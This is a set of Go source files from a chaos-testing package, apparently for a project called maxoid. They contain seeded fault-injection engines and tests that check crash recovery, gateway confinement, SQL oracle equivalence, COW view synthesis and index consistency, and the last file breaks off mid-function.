			do('Q', func(fsys *vfs.FS, db *sqldb.DB) error {
				_, err := db.Exec("CREATE TABLE notes (_id INTEGER PRIMARY KEY, body TEXT, rank INTEGER DEFAULT 0)")
				return err
			})
		}
		if _, err := env.DB.Query("SELECT _id FROM tags WHERE _id = 0"); err != nil {
			do('Q', func(fsys *vfs.FS, db *sqldb.DB) error {
				_, err := db.Exec("CREATE TABLE tags (_id INTEGER PRIMARY KEY, name TEXT NOT NULL)")
				return err
			})
		}
	}
	ensure()

	path := func(n int) string { return fmt.Sprintf("/data/f%03d", n) }

	for i := 0; i < opts.Ops && len(r.Failures) == 0; i++ {
		if env.Store.Broken() != nil {
			// Fail-stop: an injected append/fsync fault poisoned the log.
			// Drive one more op through it — it must fail typed, never
			// ack — then crash and recover.
			do('x', func(fsys *vfs.FS, db *sqldb.DB) error {
				return fsys.Chmod(vfs.Root, "/data", 0o755)
			})
			if !crash() {
				return
			}
			ensure()
			continue
		}
		p := rngOp.Float64()
		switch {
		case p < 0.05: // spontaneous kill between operations
			if !crash() {
				return
			}
			ensure()
		case p < 0.08: // compact: snapshot + WAL reset
			if err := env.Store.Snapshot(); err != nil && !allowedRecoverError(err) {
				r.failf("op %d: snapshot: %v", r.Ops, err)
			}
		case p < 0.24: // create an empty file (no-op if it exists)
			name := path(rngOp.Intn(240))
			mode := 0o600 + fs.FileMode(rngOp.Intn(8)*8)
			do('c', func(fsys *vfs.FS, db *sqldb.DB) error {
				h, err := fsys.Open(vfs.Root, name, vfs.O_WRONLY|vfs.O_CREATE, mode)
				if err != nil {
					return err
				}
				return h.Close()
			})
		case p < 0.44: // write a slice of bytes at an offset
			name := path(rngOp.Intn(240))
			off := int64(rngOp.Intn(64))
			data := make([]byte, 1+rngOp.Intn(24))
			for j := range data {
				data[j] = byte(rngOp.Intn(256))
			}
			do('w', func(fsys *vfs.FS, db *sqldb.DB) error {
				h, err := fsys.Open(vfs.Root, name, vfs.O_WRONLY, 0)
				if err != nil {
					return err
				}
				defer h.Close()
				_, err = h.WriteAt(data, off)
				return err
			})
		case p < 0.50: // remove
			name := path(rngOp.Intn(240))
			do('r', func(fsys *vfs.FS, db *sqldb.DB) error {
				return fsys.Remove(vfs.Root, name)
			})
		case p < 0.56: // rename
			oldname, newname := path(rngOp.Intn(240)), path(rngOp.Intn(240))
			do('n', func(fsys *vfs.FS, db *sqldb.DB) error {
				if oldname == newname {
					return nil
				}
				return fsys.Rename(vfs.Root, oldname, newname)
			})
		case p < 0.60: // chmod
			name := path(rngOp.Intn(240))
			mode := 0o600 + fs.FileMode(rngOp.Intn(8)*8)
			do('m', func(fsys *vfs.FS, db *sqldb.DB) error {
				return fsys.Chmod(vfs.Root, name, mode)
			})
		case p < 0.64: // chown
			name := path(rngOp.Intn(240))
			uid := 1000 + rngOp.Intn(8)
			do('o', func(fsys *vfs.FS, db *sqldb.DB) error {
				return fsys.Chown(vfs.Root, name, uid)
			})
		case p < 0.78: // insert a note
			body := fmt.Sprintf("note-%d", rngOp.Intn(1_000_000))
			rank := int64(rngOp.Intn(100))
			do('I', func(fsys *vfs.FS, db *sqldb.DB) error {
				_, err := db.Exec("INSERT INTO notes (body, rank) VALUES (?, ?)", body, rank)
				return err
			})
		case p < 0.84: // update by primary key
			id := int64(1 + rngOp.Intn(400))
			rank := int64(rngOp.Intn(100))
			do('U', func(fsys *vfs.FS, db *sqldb.DB) error {
				_, err := db.Exec("UPDATE notes SET rank = ? WHERE _id = ?", rank, id)
				return err
			})
		case p < 0.89: // delete by primary key
			id := int64(1 + rngOp.Intn(400))
			do('D', func(fsys *vfs.FS, db *sqldb.DB) error {
				_, err := db.Exec("DELETE FROM notes WHERE _id = ?", id)
				return err
			})
		default: // transaction steps: BEGIN, inserts inside, COMMIT
			switch {
			case !txnOpen:
				txnOpen = true
				do('B', func(fsys *vfs.FS, db *sqldb.DB) error {
					_, err := db.Exec("BEGIN")
					return err
				})
			case rngOp.Float64() < 0.5:
				name := fmt.Sprintf("tag-%d", rngOp.Intn(1_000_000))
				do('t', func(fsys *vfs.FS, db *sqldb.DB) error {
					_, err := db.Exec("INSERT INTO tags (name) VALUES (?)", name)
					return err
				})
			default:
				txnOpen = false
				do('C', func(fsys *vfs.FS, db *sqldb.DB) error {
					_, err := db.Exec("COMMIT")
					return err
				})
			}
		}
	}

	// Final checkpoint: one last crash-and-verify so the tail of the run
	// is checked too.
	if len(r.Failures) == 0 {
		crash()
	}
	r.finish()
}

// diffRecovered compares the recovered environment against the
// reference state: the filesystem file-for-file (path, type, mode,
// owner, content — mtimes are not durable by design) and each table
// row-for-row in primary-key order.
func diffRecovered(r *Report, env *testutil.DurableEnv, refFS *vfs.FS, refDB *sqldb.DB) {
	got, gerr := fsManifest(env.FS)
	want, werr := fsManifest(refFS)
	if gerr != nil || werr != nil {
		r.failf("kill %d: manifest walk: recovered=%v reference=%v", r.Kills, gerr, werr)
		return
	}
	for p, w := range want {
		g, ok := got[p]
		if !ok {
			r.failf("kill %d: fs: %s missing after recovery (want %s)", r.Kills, p, w)
		} else if g != w {
			r.failf("kill %d: fs: %s recovered as %s, want %s", r.Kills, p, g, w)
		}
	}
	for p := range got {
		if _, ok := want[p]; !ok {
			r.failf("kill %d: fs: %s exists after recovery but not in reference", r.Kills, p)
		}
	}

	for _, table := range []string{"notes", "tags"} {
		gotRows, gerr := env.DB.Query("SELECT * FROM " + table + " ORDER BY _id")
		wantRows, werr := refDB.Query("SELECT * FROM " + table + " ORDER BY _id")
		if gerr != nil || werr != nil {
			// Both sides missing the table (the creating record died in a
			// very early crash) is consistent; one side is divergence.
			if gerr == nil || werr == nil {
				r.failf("kill %d: db %s: recovered=%v reference=%v", r.Kills, table, gerr, werr)
			}
			continue
		}
		if len(gotRows.Data) != len(wantRows.Data) {
			r.failf("kill %d: db %s: %d rows recovered, want %d", r.Kills, table, len(gotRows.Data), len(wantRows.Data))
			continue
		}
		for i := range wantRows.Data {
			if g, w := rowRepr(gotRows.Data[i]), rowRepr(wantRows.Data[i]); g != w {
				r.failf("kill %d: db %s row %d: recovered %s, want %s", r.Kills, table, i, g, w)
			}
		}
	}
}

// fsManifest flattens a filesystem into path -> "kind|mode|uid|content".
func fsManifest(fsys *vfs.FS) (map[string]string, error) {
	out := make(map[string]string)
	err := vfs.Walk(fsys, vfs.Root, "/", func(name string, info vfs.FileInfo) error {
		if name == "/" {
			return nil
		}
		if info.IsDir() {
			out[name] = fmt.Sprintf("dir|%o|%d", info.Mode.Perm(), info.UID)
			return nil
		}
		data, err := vfs.ReadFile(fsys, vfs.Root, name)
		if err != nil {
			return err
		}
		out[name] = fmt.Sprintf("file|%o|%d|%x", info.Mode.Perm(), info.UID, data)
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}
