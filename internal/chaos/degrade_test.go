package chaos

import (
	"fmt"
	"testing"
)

// TestDegradeChecker runs the degrade engine across several seeds at a
// reduced op count. Any durability, consistency, confinement, typing,
// or recovery violation fails the test with the seed to reproduce.
func TestDegradeChecker(t *testing.T) {
	ops := 1500
	if testing.Short() {
		ops = 400
	}
	for _, seed := range []int64{1, 2, 7, 42, 1337} {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			rep := RunDegradeChecker(seed, DegradeOptions{Ops: ops})
			if !rep.OK() {
				for _, f := range rep.Failures {
					t.Errorf("seed %d: %s", seed, f)
				}
			}
			if rep.Kills == 0 {
				t.Errorf("seed %d: run finished with zero crash-recover cycles", seed)
			}
			if rep.Fired == 0 {
				t.Errorf("seed %d: run finished with zero injected faults", seed)
			}
			t.Logf("seed %d: ops=%d kills=%d fired=%d", seed, rep.Ops, rep.Kills, rep.Fired)
		})
	}
}

// TestDegradeCheckerFullVolume checks the acceptance floor: a
// default-size run must drive at least 300 injected storage faults.
func TestDegradeCheckerFullVolume(t *testing.T) {
	if testing.Short() {
		t.Skip("full-volume run skipped in -short mode")
	}
	rep := RunDegradeChecker(99, DegradeOptions{})
	if !rep.OK() {
		for _, f := range rep.Failures {
			t.Errorf("seed 99: %s", f)
		}
	}
	if rep.Fired < 300 {
		t.Errorf("default run fired %d faults, want >= 300", rep.Fired)
	}
	t.Logf("seed 99: ops=%d kills=%d fired=%d", rep.Ops, rep.Kills, rep.Fired)
}
