// Gateway-chaos engine: the remote boundary under seeded faults.
//
// The engine boots a full system, starts the gateway on the simulated
// network, and drives a seeded single-goroutine request mix across
// three identities with distinct views — an initiator, its delegate,
// and an unrelated app — while fault windows arm the three remote-path
// points: net.accept (the server drops an accept without closing the
// listener), gw.decode (failure before the request is parsed), and
// gw.view (failure after identity auth, before dispatch).
//
// Invariants:
//
//  1. Confinement: every successful table read is diffed byte-for-byte
//     against a local resolver query made with the identical caller —
//     the remote view IS the local view. Additionally, volatile marker
//     rows written by the delegate must never appear in any response
//     served to the other identities (no view escape), faults or not.
//  2. Typed errors only: every response carries one of the mapped
//     statuses; a 500 is legal only when it is the typed rendering of
//     an injected fault. Transport-level errors never reach clients —
//     net.accept faults are absorbed by the accept loop and the
//     request still completes.
//  3. No leaked connections: the run drains and shuts down cleanly
//     (the engine's test runs under testutil.LeakCheck).
package chaos

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"strings"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/core"
	"maxoid/internal/fault"
	"maxoid/internal/gateway"
	"maxoid/internal/intent"
	"maxoid/internal/provider"
	"maxoid/internal/sqldb"
)

// GatewayChaosOptions tune a gateway-chaos run.
type GatewayChaosOptions struct {
	Ops     int           // remote requests; 0 = 800
	Timeout time.Duration // whole-run hang watchdog; 0 = 120s
}

// RunGatewayChecker performs one seeded gateway-chaos run.
func RunGatewayChecker(seed int64, opts GatewayChaosOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 800
	}
	if opts.Timeout <= 0 {
		opts.Timeout = 120 * time.Second
	}
	r := &Report{Engine: "gateway", Seed: seed}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runGatewayChaos(seed, opts, r)
	}()
	select {
	case <-done:
	case <-time.After(opts.Timeout):
		r.failf("HANG: run did not complete within %v", opts.Timeout)
	}
	return r
}

// gwChaosApp is the minimal installable package the engine needs.
type gwChaosApp struct{ pkg string }

func (a *gwChaosApp) Package() string                           { return a.pkg }
func (a *gwChaosApp) OnStart(*ams.Context, intent.Intent) error { return nil }

// gwIdentity is one remote principal plus its local twin for the
// differential check.
type gwIdentity struct {
	name  string
	token string
	ctx   *ams.Context
	// delegate marks the one identity allowed to observe volatile
	// marker rows.
	delegate bool
}

// gwRenderRows renders a local query result exactly as the gateway's
// rowsResponse does, for the byte-for-byte diff.
func gwRenderRows(rows *sqldb.Rows) (string, error) {
	out := struct {
		Columns []string        `json:"columns"`
		Rows    [][]sqldb.Value `json:"rows"`
	}{Columns: rows.Columns, Rows: rows.Data}
	if out.Columns == nil {
		out.Columns = []string{}
	}
	if out.Rows == nil {
		out.Rows = [][]sqldb.Value{}
	}
	b, err := json.Marshal(out)
	return string(b), err
}

// gwTypedStatuses is the full response surface of DESIGN.md §12.
var gwTypedStatuses = map[int]bool{
	200: true, 201: true, 400: true, 401: true, 403: true,
	404: true, 405: true, 429: true, 503: true,
}

func runGatewayChaos(seed int64, opts GatewayChaosOptions, r *Report) {
	s, err := core.Boot(core.Options{})
	if err != nil {
		r.failf("boot: %v", err)
		return
	}
	defer s.Shutdown()
	defer fault.Disable()

	for _, pkg := range []string{"owner", "editor", "rival"} {
		if err := s.Install(&gwChaosApp{pkg: pkg}, ams.Manifest{
			Filters: []intent.Filter{{Actions: []string{intent.ActionView}}},
		}); err != nil {
			r.failf("install %s: %v", pkg, err)
			return
		}
	}
	ctxO, err := s.Launch("owner", intent.Intent{})
	if err != nil {
		r.failf("launch owner: %v", err)
		return
	}
	ctxD, err := s.LaunchAsDelegate("editor", "owner", intent.Intent{})
	if err != nil {
		r.failf("launch delegate: %v", err)
		return
	}
	ctxR, err := s.Launch("rival", intent.Intent{})
	if err != nil {
		r.failf("launch rival: %v", err)
		return
	}
	if _, err := s.StartGateway(core.GatewayOptions{Workers: 2}); err != nil {
		r.failf("start gateway: %v", err)
		return
	}

	idents := []gwIdentity{
		{name: "owner", token: gateway.Token(ctxO.Task()), ctx: ctxO},
		{name: "delegate", token: gateway.Token(ctxD.Task()), ctx: ctxD, delegate: true},
		{name: "rival", token: gateway.Token(ctxR.Task()), ctx: ctxR},
	}

	// The delegate's volatile marker: rows carrying this prefix live in
	// Vol(owner) and may appear ONLY in responses to the delegate.
	const volMarker = "vol-escape-probe"
	if _, err := ctxD.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": volMarker + "-seed"}); err != nil {
		r.failf("delegate seed insert: %v", err)
		return
	}

	rng := rand.New(rand.NewSource(seed ^ 0x9a7e3a7e))

	// Fault windows over the three remote-path points. Probabilities
	// stay below 1 so accept retries always terminate.
	windows := []struct {
		name string
		ops  int
		arm  func(s int64)
	}{
		{"accept", 40, func(s int64) {
			fault.Enable(s, fault.Spec{Point: "net.accept", Prob: 0.5})
		}},
		{"decode", 40, func(s int64) {
			fault.Enable(s, fault.Spec{Point: "gw.decode", Prob: 0.3})
		}},
		{"view", 40, func(s int64) {
			fault.Enable(s, fault.Spec{Point: "gw.view", Prob: 0.3})
		}},
		{"mixed", 50, func(s int64) {
			fault.Enable(s,
				fault.Spec{Point: "net.accept", Prob: 0.25},
				fault.Spec{Point: "gw.decode", Prob: 0.15},
				fault.Spec{Point: "gw.view", Prob: 0.15})
		}},
	}
	windowLeft := 0
	accumulate := func() {
		tr := fault.Trace()
		r.Trace = append(r.Trace, tr...)
		for _, e := range tr {
			if e.Fired {
				r.Fired++
			}
		}
	}

	// injectedResp recognizes the typed renderings of an injected
	// fault: gw.decode surfaces as 400 bad_request (the request never
	// parsed), gw.view as 500 internal. Both must say so in the body.
	injectedResp := func(status int, body []byte) bool {
		if status != 500 && status != 400 {
			return false
		}
		var e struct {
			Error string `json:"error"`
			Code  string `json:"code"`
		}
		if json.Unmarshal(body, &e) != nil {
			return false
		}
		if status == 500 && e.Code != "internal" {
			return false
		}
		if status == 400 && e.Code != "bad_request" {
			return false
		}
		return strings.Contains(e.Error, "injected")
	}

	// request performs one round trip and applies the shared response
	// invariants; returns the response for op-specific checks.
	request := func(id gwIdentity, method, path string, body []byte) (int, []byte, bool) {
		r.Ops++
		resp, err := s.GatewayRequest(id.token, method, path, body)
		if err != nil {
			r.failf("op %d: transport error surfaced to client (%s %s as %s): %v",
				r.Ops, method, path, id.name, err)
			return 0, nil, false
		}
		if !gwTypedStatuses[resp.Status] && !injectedResp(resp.Status, resp.Body) {
			r.failf("op %d: untyped response %d %s (%s %s as %s)",
				r.Ops, resp.Status, resp.Body, method, path, id.name)
			return resp.Status, resp.Body, false
		}
		// View escape: only the delegate may ever observe the marker.
		if !id.delegate && strings.Contains(string(resp.Body), volMarker) {
			r.failf("op %d: VIEW ESCAPE — %s response to %s contains delegate volatile marker: %s",
				r.Ops, path, id.name, resp.Body)
			return resp.Status, resp.Body, false
		}
		return resp.Status, resp.Body, true
	}

	tables := []struct{ uri, path string }{
		{"content://user_dictionary/words", "/v1/user_dictionary/words?order=_id"},
		{"content://media/files", "/v1/media/files?order=_id"},
	}

	for i := 0; i < opts.Ops && len(r.Failures) == 0; i++ {
		if windowLeft > 0 {
			windowLeft--
			if windowLeft == 0 {
				accumulate()
				fault.Disable()
			}
		} else if rng.Float64() < 0.05 {
			w := windows[rng.Intn(len(windows))]
			w.arm(seed + int64(i))
			windowLeft = w.ops
		}

		id := idents[rng.Intn(len(idents))]
		switch p := rng.Float64(); {
		case p < 0.40: // differential table read
			tc := tables[rng.Intn(len(tables))]
			status, body, ok := request(id, "GET", tc.path, nil)
			if !ok || status != 200 {
				break // injected 500: fault absorbed the read, nothing to diff
			}
			local, err := id.ctx.Resolver().Query(tc.uri, nil, "", "_id")
			if err != nil {
				r.failf("op %d: local twin query %s as %s: %v", r.Ops, tc.uri, id.name, err)
				break
			}
			want, err := gwRenderRows(local)
			if err != nil {
				r.failf("op %d: render: %v", r.Ops, err)
				break
			}
			if string(body) != want {
				r.failf("op %d: CONFINEMENT DIVERGENCE %s as %s\nremote: %s\nlocal:  %s",
					r.Ops, tc.path, id.name, body, want)
			}
		case p < 0.60: // insert: public for owner/rival, volatile for delegate
			word := fmt.Sprintf("pub-%s-%d", id.name, i)
			if id.delegate {
				word = fmt.Sprintf("%s-%d", volMarker, i)
			}
			status, body, ok := request(id, "POST", "/v1/user_dictionary/words",
				[]byte(fmt.Sprintf(`{"word":%q,"frequency":%d}`, word, rng.Intn(100))))
			if ok && status != 201 && !injectedResp(status, body) && status != 429 {
				r.failf("op %d: insert as %s = %d %s, want 201/429/injected",
					r.Ops, id.name, status, body)
			}
		case p < 0.70: // schema introspection
			status, body, ok := request(id, "GET", "/v1/user_dictionary/_schema", nil)
			if ok && status != 200 && !injectedResp(status, body) {
				r.failf("op %d: _schema as %s = %d %s", r.Ops, id.name, status, body)
			}
		case p < 0.78: // unknown table → 404
			status, body, ok := request(id, "GET", "/v1/user_dictionary/nosuch", nil)
			if ok && status != 404 && !injectedResp(status, body) {
				r.failf("op %d: unknown table = %d %s, want 404", r.Ops, status, body)
			}
		case p < 0.86: // unknown principal → 403
			status, body, ok := request(gwIdentity{name: "ghost", token: "u0:ghost"},
				"GET", "/v1/user_dictionary/words", nil)
			if ok && status != 403 && !injectedResp(status, body) {
				r.failf("op %d: ghost identity = %d %s, want 403", r.Ops, status, body)
			}
		case p < 0.93: // bad method → 405
			status, body, ok := request(id, "PATCH", "/v1/user_dictionary/words", nil)
			if ok && status != 405 && !injectedResp(status, body) {
				r.failf("op %d: PATCH = %d %s, want 405", r.Ops, status, body)
			}
		default: // malformed body → 400
			status, body, ok := request(id, "POST", "/v1/user_dictionary/words", []byte(`{not json`))
			if ok && status != 400 && !injectedResp(status, body) {
				r.failf("op %d: malformed body = %d %s, want 400", r.Ops, status, body)
			}
		}
	}

	accumulate()
	fault.Disable()

	// Close out clean: with faults disarmed, every identity's remote
	// view must again equal its local view, and the marker stays confined.
	if len(r.Failures) == 0 {
		for _, id := range idents {
			resp, err := s.GatewayRequest(id.token, "GET", "/v1/user_dictionary/words?order=_id", nil)
			if err != nil || resp.Status != 200 {
				r.failf("final read as %s: %v %d %s", id.name, err, resp.Status, resp.Body)
				continue
			}
			local, err := id.ctx.Resolver().Query("content://user_dictionary/words", nil, "", "_id")
			if err != nil {
				r.failf("final local read as %s: %v", id.name, err)
				continue
			}
			want, _ := gwRenderRows(local)
			if string(resp.Body) != want {
				r.failf("final divergence as %s:\nremote: %s\nlocal:  %s", id.name, resp.Body, want)
			}
			if !id.delegate && strings.Contains(string(resp.Body), volMarker) {
				r.failf("final VIEW ESCAPE to %s: %s", id.name, resp.Body)
			}
		}
	}
	if len(r.Failures) == 0 && opts.Ops >= 800 && r.Fired < 50 {
		r.failf("only %d injected faults fired; the default run must drive >= 50", r.Fired)
	}
}
