package chaos

import (
	"testing"

	"maxoid/internal/testutil"
)

// TestOverloadCheckerSeeds: the overload engine upholds its invariants
// across seeds — typed rejections only, exact accounting, drained
// admission — with ams.admit faults injected throughout.
func TestOverloadCheckerSeeds(t *testing.T) {
	defer testutil.LeakCheck(t)()
	for _, seed := range []int64{1, 7, 42} {
		r := RunOverloadChecker(seed, OverloadOptions{Ops: 2000})
		if !r.OK() {
			t.Fatalf("seed %d: %v", seed, r.Failures)
		}
		if r.Fired == 0 {
			t.Fatalf("seed %d: no admission faults fired", seed)
		}
	}
}
