package chaos

import (
	"errors"

	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
)

// OracleOptions configure a differential-oracle run.
type OracleOptions struct {
	Ops    int  // randomized statements to replay (default 1000)
	Faults bool // arm sqldb.exec / sqldb.commit fault points
	// Script, when non-nil, replaces the probabilistic schedule with an
	// exact one (used by shrink-to-minimal).
	Script []fault.Fire
}

// createSQL is the schema both engines start from.
func createSQL(table string) string {
	return "CREATE TABLE " + table + " (_id INTEGER PRIMARY KEY, a INTEGER, b TEXT, c INTEGER)"
}

// RunSQLOracle replays a seeded randomized statement workload against
// internal/sqldb and the naive reference engine, diffing affected-row
// counts, error outcomes, every SELECT result row for row, and the
// full table contents at the end of the run.
//
// With faults armed, injected statement faults fire before the
// statement mutates anything (both engines skip it) and injected
// commit faults roll both engines back to the BEGIN snapshot, so the
// two stay in lockstep unless the engine under test mishandles a
// fault — which is exactly what the diff then catches.
func RunSQLOracle(seed int64, opts OracleOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 1000
	}
	rep := &Report{Engine: "sql-oracle", Seed: seed, Ops: opts.Ops}

	db := sqldb.Open()
	ref := NewRef()
	for _, t := range oracleTables {
		if _, err := db.Exec(createSQL(t)); err != nil {
			rep.failf("setup: %v", err)
			return rep
		}
		ref.CreateTable(t, oracleCols)
	}

	switch {
	case opts.Script != nil:
		fault.EnableScript(opts.Script)
		defer fault.Disable()
	case opts.Faults:
		fault.Enable(seed+1,
			fault.Spec{Point: "sqldb.exec", Prob: 0.01, Op: fault.OpError},
			fault.Spec{Point: "sqldb.commit", Prob: 0.15, Op: fault.OpError},
		)
		defer fault.Disable()
	}

	g := NewGen(seed)
	for i := 0; i < opts.Ops && len(rep.Failures) < 10; i++ {
		op := g.Next()
		sql := op.SQL()
		pre := len(fault.Trace())

		if op.Kind == OpSelect {
			rows, err := db.Query(sql)
			if err != nil && errors.Is(err, fault.ErrInjected) {
				continue // fired pre-execution; reference skips it too
			}
			refRows, refErr := ref.Select(op)
			if (err != nil) != (refErr != nil) {
				rep.failf("op %d %q: engine err %v, reference err %v", i, sql, err, refErr)
				continue
			}
			if err != nil {
				continue
			}
			if d := diffRows(rows.Data, refRows); d != "" {
				rep.failf("op %d %q: %s", i, sql, d)
			}
			continue
		}

		res, err := db.Exec(sql)
		if err != nil && errors.Is(err, fault.ErrInjected) {
			// Which point fired decides what the engine did: a statement
			// fault fired before anything ran (skip), a commit fault
			// rolled the engine back to its BEGIN snapshot (mirror it).
			if firedPoint(pre) == "sqldb.commit" {
				ref.ForceRollback()
			}
			continue
		}
		affected, refErr := ref.Apply(op)
		if (err != nil) != (refErr != nil) {
			rep.failf("op %d %q: engine err %v, reference err %v", i, sql, err, refErr)
			continue
		}
		if err != nil {
			continue
		}
		if op.Kind != OpBegin && op.Kind != OpCommit && op.Kind != OpRollback && res.RowsAffected != affected {
			rep.failf("op %d %q: engine affected %d, reference %d", i, sql, res.RowsAffected, affected)
		}
	}

	// End-of-run full-state comparison. An open transaction is fine —
	// both engines hold the same uncommitted state.
	for _, t := range oracleTables {
		rows, err := db.Query("SELECT _id, a, b, c FROM " + t + " ORDER BY _id")
		if err != nil && errors.Is(err, fault.ErrInjected) {
			fault.Suspend()
			rows, err = db.Query("SELECT _id, a, b, c FROM " + t + " ORDER BY _id")
			fault.Resume()
		}
		if err != nil {
			rep.failf("final dump %s: %v", t, err)
			continue
		}
		if d := diffRows(rows.Data, ref.Dump(t)); d != "" {
			rep.failf("final state of %s diverged: %s", t, d)
		}
	}

	rep.finish()
	return rep
}

// firedPoint returns the fault point that fired since trace index pre
// ("" when none did). At most one fault fires per statement: a
// statement fault preempts the statement, so the commit point is never
// reached in the same call.
func firedPoint(pre int) string {
	tr := fault.Trace()
	for _, e := range tr[pre:] {
		if e.Fired {
			return e.Point
		}
	}
	return ""
}
