package chaos

import (
	"errors"
	"fmt"
	"math/rand"

	"maxoid/internal/cowproxy"
	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
)

// RunSynthChecker kills cowproxy's COW view synthesis — the
// multi-statement creation of a delta table, COW view, and INSTEAD OF
// triggers — at injected points and asserts the machinery is
// all-or-nothing: after any attempt, an initiator either has the
// complete delta table + COW view pair or neither, and a successful
// query through the proxy sees exactly the primary rows.
func RunSynthChecker(seed int64, opts CheckerOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 300
	}
	rep := &Report{Engine: "synth", Seed: seed, Ops: opts.Ops}

	db := sqldb.Open()
	setup := []string{
		"CREATE TABLE notes (_id INTEGER PRIMARY KEY, title TEXT, body TEXT)",
		"INSERT INTO notes (title, body) VALUES ('a', 'alpha')",
		"INSERT INTO notes (title, body) VALUES ('b', 'beta')",
		"INSERT INTO notes (title, body) VALUES ('c', 'gamma')",
	}
	for _, s := range setup {
		if _, err := db.Exec(s); err != nil {
			rep.failf("setup: %v", err)
			return rep
		}
	}
	p := cowproxy.New(db)
	if err := p.RegisterTable("notes"); err != nil {
		rep.failf("setup: %v", err)
		return rep
	}
	if err := p.RegisterUserView("titles", "SELECT _id, title FROM notes"); err != nil {
		rep.failf("setup: %v", err)
		return rep
	}

	if opts.Script != nil {
		fault.EnableScript(opts.Script)
	} else {
		fault.Enable(seed+1,
			fault.Spec{Point: "cowproxy.synth", Prob: 0.25, Op: fault.OpError},
			fault.Spec{Point: "sqldb.exec", Prob: 0.02, Op: fault.OpError},
		)
	}
	defer fault.Disable()

	r := rand.New(rand.NewSource(seed))
	initiators := make([]string, 6)
	for i := range initiators {
		initiators[i] = fmt.Sprintf("app%02d", i)
	}

	check := func(i int, init string) {
		fault.Suspend()
		defer fault.Resume()
		delta := cowproxy.DeltaTableName("notes", init)
		cow := cowproxy.COWViewName("notes", init)
		hasDelta, hasView := db.HasTable(delta), db.HasView(cow)
		if hasDelta != hasView {
			rep.failf("op %d %s: PARTIAL synthesis: delta table exists=%v, COW view exists=%v",
				i, init, hasDelta, hasView)
		}
		if p.HasDelta("notes", init) && (!hasDelta || !hasView) {
			rep.failf("op %d %s: proxy believes synthesis complete but delta=%v view=%v",
				i, init, hasDelta, hasView)
		}
		// A user-view COW can only exist on top of complete table COW
		// machinery.
		if db.HasView(cowproxy.COWViewName("titles", init)) && !hasView {
			rep.failf("op %d %s: user COW view exists without its base COW view", i, init)
		}
	}

	for i := 0; i < opts.Ops && len(rep.Failures) < 10; i++ {
		init := initiators[r.Intn(len(initiators))]
		conn := p.For(init)
		switch n := r.Intn(100); {
		case n < 55: // query the primary table: triggers table synthesis
			rows, err := conn.Query("notes", []string{"_id", "title"}, "", "_id")
			if err != nil && !errors.Is(err, fault.ErrInjected) {
				rep.failf("op %d %s query: unexpected error %v", i, init, err)
			}
			if err == nil && len(rows.Data) != 3 {
				// No delegate has written, so every initiator's COW view
				// must show exactly the primary rows.
				rep.failf("op %d %s query: got %d rows through COW view, want 3", i, init, len(rows.Data))
			}
			check(i, init)
		case n < 80: // query the user view: triggers the view hierarchy
			_, err := conn.Query("titles", []string{"_id", "title"}, "", "_id")
			if err != nil && !errors.Is(err, fault.ErrInjected) {
				rep.failf("op %d %s view query: unexpected error %v", i, init, err)
			}
			check(i, init)
		default: // discard volatile state (scaffolding, not under test)
			fault.Suspend()
			err := p.DiscardVolatile(init)
			fault.Resume()
			if err != nil {
				rep.failf("op %d %s discard: %v", i, init, err)
			}
			check(i, init)
		}
	}

	rep.finish()
	return rep
}
