package chaos

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"

	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
)

// Index chaos: two engines for the secondary-index layer.
//
// RunIndexOracle is a differential oracle for access-path choice: the
// same seeded workload runs against two sqldb instances, one bare and
// one carrying randomly chosen secondary indexes (with random index
// DDL mixed into the run). Indexes must never change results — only
// how rows are found — so any divergence in rows, affected counts,
// errors, or final state is a planner or index-maintenance bug.
//
// RunIndexFaultChecker arms the sqldb.indexbuild and sqldb.indexmaint
// fault points and asserts the all-or-nothing discipline: a failed
// CREATE INDEX leaves no trace of the index, and a statement that
// faults mid-maintenance leaves every published index exactly
// consistent with its table (verified by sqldb's CheckIndexes, which
// rebuilds shadow indexes and compares entry for entry).

// indexableCols are the non-PK columns random indexes draw from.
var indexableCols = []string{"a", "b", "c"}

// randomIndexSQL draws a random CREATE INDEX statement for table on
// one or two of the data columns, ordered or hash.
func randomIndexSQL(r *rand.Rand, table string, n int) string {
	cols := []string{indexableCols[r.Intn(len(indexableCols))]}
	if r.Intn(2) == 0 {
		for _, c := range indexableCols {
			if c != cols[0] && r.Intn(2) == 0 {
				cols = append(cols, c)
				break
			}
		}
	}
	using := ""
	if r.Intn(2) == 0 {
		using = " USING HASH"
	}
	return fmt.Sprintf("CREATE INDEX ix_%s_%d ON %s (%s)%s",
		table, n, table, strings.Join(cols, ", "), using)
}

// RunIndexOracle replays one seeded workload against a bare engine and
// an indexed engine and diffs every outcome. Faults are not armed:
// this oracle isolates access-path equivalence (RunIndexFaultChecker
// owns the fault discipline).
func RunIndexOracle(seed int64, opts OracleOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 1000
	}
	rep := &Report{Engine: "index-oracle", Seed: seed, Ops: opts.Ops}

	bare := sqldb.Open()
	indexed := sqldb.Open()
	for _, t := range oracleTables {
		for _, db := range []*sqldb.DB{bare, indexed} {
			if _, err := db.Exec(createSQL(t)); err != nil {
				rep.failf("setup: %v", err)
				return rep
			}
		}
	}

	// Seed-derived index set, disjoint from the workload stream so the
	// same seed generates the same statements as the other oracles.
	ixRand := rand.New(rand.NewSource(seed + 2))
	nIndexes := 0
	for _, t := range oracleTables {
		for k := 1 + ixRand.Intn(2); k > 0; k-- {
			if _, err := indexed.Exec(randomIndexSQL(ixRand, t, nIndexes)); err != nil {
				rep.failf("setup index: %v", err)
				return rep
			}
			nIndexes++
		}
	}

	g := NewGen(seed)
	for i := 0; i < opts.Ops && len(rep.Failures) < 10; i++ {
		// Sprinkle index DDL through the run (indexed engine only):
		// creation over live data exercises the sorted rebuild, drops
		// exercise plan-cache invalidation back to scans.
		if i > 0 && i%127 == 0 {
			if ixRand.Intn(3) == 0 {
